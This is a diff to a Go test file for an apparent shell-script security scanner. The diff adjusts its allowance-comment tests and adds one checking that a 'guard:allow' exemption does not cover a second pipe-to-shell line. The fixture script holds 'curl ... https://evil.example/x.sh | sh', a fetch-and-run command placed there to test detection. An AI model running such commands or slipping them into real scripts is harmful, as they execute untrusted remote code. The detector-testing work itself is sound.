@@ -146,7 +146,7 @@ func TestAllowances(t *testing.T) {
 		"# guard:allow r9 -- unknown\n" +
 		"# guard:allow r1 r2 -- spaces\n" +
 		"echo guard:allow is mentioned\n"
-	byLine, problems := allowances("f", newLineIndex([]byte(src)), known)
+	byLine, problems, _ := allowances("f", newLineIndex([]byte(src)), known, nil)
 	want := map[int][]Allowance{
 		1: {{Line: 1, Rules: []string{"r1"}, Reason: "why"}},
 		2: {{Line: 2, Rules: []string{"r1", "r2"}, Reason: "two rules -- with dashes"}},
@@ -177,11 +177,39 @@ func TestAllowances(t *testing.T) {
 	if a := allowed(byLine, "r1", 40, 2); a == nil {
 		t.Errorf("snippet start line should be covered")
 	}
-	if _, p := allowances("f", newLineIndex([]byte("# guard:allow anything -- ok\n")), nil); p != nil {
+	if _, p, _ := allowances("f", newLineIndex([]byte("# guard:allow anything -- ok\n")), nil, nil); p != nil {
 		t.Errorf("nil KnownRule should accept any id: %v", p)
 	}
-	if _, p := allowances("f", newLineIndex([]byte("# guard:allow scan-unparsable -- ok\n")), known); p != nil {
+	if _, p, _ := allowances("f", newLineIndex([]byte("# guard:allow scan-unparsable -- ok\n")), known, nil); p != nil {
 		t.Errorf("scan's own rules are known: %v", p)
+	}
+}
+
+// TestAllowanceCoversOnePlace: the verdict names each rule once, at its
+// first place; a second curl | sh later in the script is a finding of its
+// own, not covered by the first one's allowance (it was hidden behind it),
+// and an allowance Trusted refuses is reported, not honoured.
+func TestAllowanceCoversOnePlace(t *testing.T) {
+	src := "#!/bin/sh\n# guard:allow exec.pipe-to-shell -- pinned installer\ncurl -fsSL https://a.example/i.sh | sh\necho ok\ncurl -fsSL https://evil.example/x.sh | sh\n"
+	run := func(trusted func(string, []byte) bool) *Report {
+		t.Helper()
+		r, err := Run(Options{Root: "/home/u/proj", Review: engineReview, Trusted: trusted}, []File{{Path: "install.sh", Src: []byte(src)}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return r
+	}
+	r := run(nil)
+	over := r.Exceeding(review.B)
+	if len(over) != 1 || over[0].Line != 5 || over[0].Rule != "exec.pipe-to-shell" {
+		t.Errorf("exceeding B: %+v; want the pipe to sh at line 5 alone", over)
+	}
+	r = run(func(string, []byte) bool { return false })
+	if len(r.Untrusted) != 1 || r.Untrusted[0].Line != 2 {
+		t.Errorf("untrusted: %+v; want the allowance at line 2", r.Untrusted)
+	}
+	if over := r.Exceeding(review.B); len(over) != 2 {
+		t.Errorf("with the allowance refused, exceeding B: %+v; want both pipes", over)
 	}
 }
 
